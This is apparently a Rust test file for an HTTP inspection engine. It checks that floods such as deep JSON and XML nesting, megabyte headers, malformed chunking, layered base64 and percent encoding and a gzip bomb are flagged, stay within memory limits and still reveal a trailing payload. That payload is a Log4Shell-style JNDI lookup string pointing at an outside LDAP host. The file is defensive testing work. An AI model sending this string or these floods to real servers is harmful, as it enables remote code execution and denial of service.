//! Bounded: floods of every kind reach a limit that is told by name, hold no more memory than stated, cost work in
//! proportion to their bytes, and hide nothing that comes after the limit.

mod counting;

use counting::peak;
use sidewatch::http::Messages;
use sidewatch::{Anomaly, Engine, Policy, Transaction, Verdict};
use std::fmt::Write as _;
use std::io::Write as _;

/// Most bytes a transaction may hold, with the parser that feeds it, at the default limits. The decoders' windows, one
/// for each depth, are most of it; a coded body adds the tables and windows of its codings.
const TRANSACTION: usize = 256 << 10;
/// Most bytes a connection may hold besides its transactions.
const CONNECTION: usize = 64 << 10;
/// Most bytes a judged form of the values may have for each byte sent, at the default limits: what decoding may
/// produce, and the readings of one part as several values.
const WORK: usize = 12;
/// Bytes that may be judged beyond that, whatever was sent.
const FREE: usize = 256 << 10;

const ATTACK: &str = "${jndi:ldap://198.51.100.7/o}";

fn post(content_type: &str, extra: &str, body: &[u8]) -> Vec<u8> {
    let length = body.len();
    let head = format!(
        "POST /a HTTP/1.1\r\nHost: a.example\r\nContent-Type: {content_type}\r\n{extra}Content-Length: {length}\r\n\r\n"
    );
    [head.as_bytes(), body].concat()
}

/// A flood, the anomaly it must raise, and what it must not exceed.
struct Flood {
    name: &'static str,
    bytes: Vec<u8>,
    anomaly: Option<Anomaly>,
    /// Whether the payload that comes last has to be found.
    found: bool,
}

fn flood(name: &'static str, bytes: Vec<u8>, anomaly: Anomaly) -> Flood {
    Flood { name, bytes, anomaly: Some(anomaly), found: true }
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).expect("to memory");
    out.finish().expect("to memory")
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let bits = group.iter().fold(0u32, |bits, &b| bits << 8 | u32::from(b)) << (8 * (3 - group.len()));
        for i in 0..4 {
            let six = bits >> (18 - 6 * i) & 63;
            out.push(if i <= group.len() { char::from(ALPHABET[six as usize]) } else { '=' });
        }
    }
    out
}

/// The floods, `size` times as big as the smallest that is one.
fn floods(size: usize) -> Vec<Flood> {
    let form = "application/x-www-form-urlencoded";
    let pairs: String = (0..50_000 * size).fold(String::new(), |mut out, i| {
        _ = write!(out, "p{i}=v&");
        out
    });
    let query: String = (0..5_000).fold(String::new(), |mut out, i| {
        _ = write!(out, "p{i}=v&");
        out
    });
    let deep = 50_000 * size;
    let nested_parts: String = (0..400 * size).fold(String::new(), |mut out, i| {
        _ = write!(out, "--b{i}\r\nContent-Type: multipart/mixed; boundary=b{}\r\n\r\n", i + 1);
        out
    });
    let headers: String = (0..10_000).fold(String::new(), |mut out, i| {
        _ = write!(out, "X-{i}: v\r\n");
        out
    });
    let chain = "%".to_owned() + &"25".repeat(2_000 * size) + "27";
    let matryoshka = (0..20).fold(ATTACK.to_owned(), |inner, _| base64(inner.as_bytes()));
    let xml_attack = format!("<v>{ATTACK}</v>");
    let mut list = vec![
        flood("pairs of a form", post(form, "", format!("{pairs}z={ATTACK}").as_bytes()), Anomaly::TooManyParams),
        flood(
            "elements of JSON",
            post("application/json", "", format!("[{}\"{ATTACK}\"]", "1,".repeat(50_000 * size)).as_bytes()),
            Anomaly::TooManyParams,
        ),
        flood(
            "nesting of JSON",
            post("application/json", "", format!("{}\"{ATTACK}\"", "[".repeat(deep)).as_bytes()),
            Anomaly::NestingTooDeep,
        ),
        flood(
            "objects of JSON",
            post("application/json", "", format!("{}\"{ATTACK}\"", "{\"a\":".repeat(deep / 4)).as_bytes()),
            Anomaly::NestingTooDeep,
        ),
        flood(
            "nesting of XML",
            post("text/xml", "", format!("{}{xml_attack}", "<a>".repeat(deep / 2)).as_bytes()),
            Anomaly::NestingTooDeep,
        ),
        flood(
            "elements of XML",
            post("text/xml", "", format!("<r>{}{xml_attack}</r>", "<a>1</a>".repeat(deep / 4)).as_bytes()),
            Anomaly::TooManyParams,
        ),
        flood(
            "nesting of multipart",
            post("multipart/mixed; boundary=b0", "", format!("{nested_parts}{ATTACK}").as_bytes()),
            Anomaly::NestingTooDeep,
        ),
        flood(
            "parts of multipart",
            post(
                "multipart/form-data; boundary=b",
                "",
                format!(
                    "{}{ATTACK}",
                    "--b\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n".repeat(12_000 * size)
                )
                .as_bytes(),
            ),
            Anomaly::TooManyParams,
        ),
        flood(
            "a header of a megabyte",
            format!("GET / HTTP/1.1\r\nHost: a.example\r\nX-Long: {}{ATTACK}\r\n\r\n", "x1-y2.".repeat(170_000 * size))
                .into_bytes(),
            Anomaly::FieldTooLong,
        ),
        flood(
            "a target of a megabyte",
            format!("GET /?q={}{ATTACK} HTTP/1.1\r\nHost: a.example\r\n\r\n", "x1-y2.".repeat(170_000 * size)).into_bytes(),
            Anomaly::FieldTooLong,
        ),
        flood(
            "header fields",
            format!("GET / HTTP/1.1\r\nHost: a.example\r\n{}X-Z: {ATTACK}\r\n\r\n", headers.repeat(size)).into_bytes(),
            Anomaly::TooManyHeaders,
        ),
        flood(
            "one cookie field of many",
            format!("GET /?{query} HTTP/1.1\r\nHost: a.example\r\nCookie: {}z={ATTACK}\r\n\r\n", "a=1; ".repeat(6_000))
                .into_bytes(),
            Anomaly::DuplicateParam,
        ),
        flood(
            "percent signs in percent signs",
            post(form, "", format!("q={chain}&z={ATTACK}").as_bytes()),
            Anomaly::DecodeTooDeep,
        ),
        flood(
            "base64 in base64",
            post(form, "", format!("q={matryoshka}&z={ATTACK}").as_bytes()),
            Anomaly::DecodeTooDeep,
        ),
        flood(
            "values in many layers",
            post(
                "application/json",
                "",
                format!(
                    "[{}\"{ATTACK}\"]",
                    format!("\"{}\",", "&amp;amp;amp;lt;%25252526lt;&#38;#38;\\\\x5c\\\\u0026 ".repeat(15)).repeat(240 * size)
                )
                .as_bytes(),
            ),
            Anomaly::DecodeBudget,
        ),
        flood(
            "a size of a chunk without end",
            format!("POST / HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n{}\r\n{ATTACK}", "0".repeat(500_000 * size))
                .into_bytes(),
            Anomaly::InvalidChunkSize,
        ),
        flood(
            "chunks of one byte",
            format!(
                "POST / HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n{}{:x}\r\n{ATTACK}\r\n0\r\n",
                "1;e=v\r\nx\r\n".repeat(50_000 * size),
                ATTACK.len()
            )
            .into_bytes(),
            Anomaly::ChunkExtension,
        ),
        flood(
            "lines that are no HTTP",
            format!("{}{ATTACK}", "what is this\r\n".repeat(40_000 * size)).into_bytes(),
            Anomaly::NotHttp,
        ),
    ];
    // What the limit cuts off cannot be inflated any more: the payload has to come before it.
    let bomb = [format!("z={ATTACK}&q=").into_bytes(), vec![b'0'; 40 << 20]].concat();
    list.push(flood("gzip bomb", post(form, "Content-Encoding: gzip\r\n", &gzip(&bomb)), Anomaly::DataBomb));
    list
}

fn run(transaction: &mut Transaction, bytes: &[u8]) {
    bytes.chunks(1460).for_each(|piece| transaction.request_bytes(piece));
    transaction.request_end();
}

#[test]
fn floods_are_told_and_hide_nothing() {
    let mut transaction = Engine::default().transaction();
    let mut wrong = Vec::new();
    for flood in floods(1) {
        transaction.reset();
        run(&mut transaction, &flood.bytes);
        if let Some(anomaly) = flood.anomaly.filter(|&a| !transaction.anomalies().contains(a)) {
            let got: Vec<_> = transaction.anomalies().iter().map(Anomaly::name).collect();
            wrong.push(format!("{}: {} is not told, only {got:?}", flood.name, anomaly.name()));
        }
        if flood.found && transaction.verdict() != Verdict::Attack {
            wrong.push(format!("{}: the payload is hidden", flood.name));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn floods_hold_no_more_memory_than_stated() {
    let mut wrong = Vec::new();
    for flood in floods(2) {
        let engine = Engine::default();
        let held = peak(|| run(&mut engine.transaction(), &flood.bytes));
        if held > TRANSACTION {
            wrong.push(format!("{}: {held} bytes in a transaction", flood.name));
        }
        let held = peak(|| {
            let mut connection = engine.connection();
            for piece in flood.bytes.chunks(1460) {
                connection.client(piece);
                while let Some(transaction) = connection.next_transaction() {
                    connection.recycle(transaction);
                }
            }
        });
        // Besides the open transaction a connection keeps some for reuse.
        if held > CONNECTION + 2 * TRANSACTION {
            wrong.push(format!("{}: {held} bytes in a connection", flood.name));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_flood_of_requests_that_nobody_answers_is_bounded() {
    let engine = Engine::default();
    let flood = "GET /a?b=c HTTP/1.1\r\nHost: a.example\r\n\r\n".repeat(20_000);
    let (mut given_up, mut out) = (0, 0);
    let held = peak(|| {
        let mut connection = engine.connection();
        let mut rest = flood.as_bytes();
        while !rest.is_empty() {
            let used = connection.client_message(&rest[..rest.len().min(1460)]);
            rest = &rest[used..];
            while let Some(transaction) = connection.next_transaction() {
                out += 1;
                given_up += usize::from(transaction.anomalies().contains(Anomaly::TooManyPipelined));
                connection.recycle(transaction);
            }
        }
    });
    let waiting = engine.policy().limits.pipelined;
    assert!(given_up > 0 && out >= 20_000 - 2 * waiting, "{given_up} of {out} given up");
    assert!(held < CONNECTION + waiting * (32 << 10), "{held} bytes for {waiting} waiting requests");
}

#[test]
fn work_is_in_proportion_to_the_bytes() {
    let mut transaction = Engine::default().transaction();
    transaction.set_trace(true);
    let mut wrong = Vec::new();
    // All but the bomb, whose work is that of what it inflates to.
    let plain = |flood: &Flood| flood.anomaly != Some(Anomaly::DataBomb);
    for flood in floods(1).into_iter().chain(floods(3)).filter(plain) {
        transaction.reset();
        run(&mut transaction, &flood.bytes);
        let (sent, values) = (flood.bytes.len(), transaction.trace().len());
        let judged: usize = transaction.trace().iter().map(|step| step.length).sum();
        if judged > WORK * sent + FREE || values > sent {
            wrong.push(format!("{}: {judged} bytes judged in {values} values for {sent} sent", flood.name));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn narrow_limits_hold_too() {
    let policy = "[limits]\nfield = 256\nheaders = 8\nparams = 16\nnesting = 4\ndecode_depth = 0\ndecode_factor = 1\ninflate_bytes = 1024\nfindings = 1\nexcerpt = 16\npipelined = 1";
    let engine = Engine::new(Policy::from_toml(policy).expect("a policy"));
    let mut transaction = engine.transaction();
    for flood in floods(1).iter().filter(|f| f.anomaly != Some(Anomaly::DataBomb)) {
        transaction.reset();
        run(&mut transaction, &flood.bytes);
        assert!(transaction.findings().len() <= 1, "{}", flood.name);
        assert!(transaction.verdict() == Verdict::Attack, "{}: the payload is hidden", flood.name);
    }
}
